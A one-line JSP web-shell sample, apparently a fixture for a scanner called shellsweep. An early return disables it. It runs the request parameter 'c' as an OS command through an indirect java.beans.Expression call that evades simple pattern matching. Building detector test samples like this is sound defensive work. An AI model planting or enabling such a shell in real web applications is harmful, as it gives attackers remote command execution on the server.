<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% Process p = (Process) new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{ request.getParameter("c") }).getValue(); %>
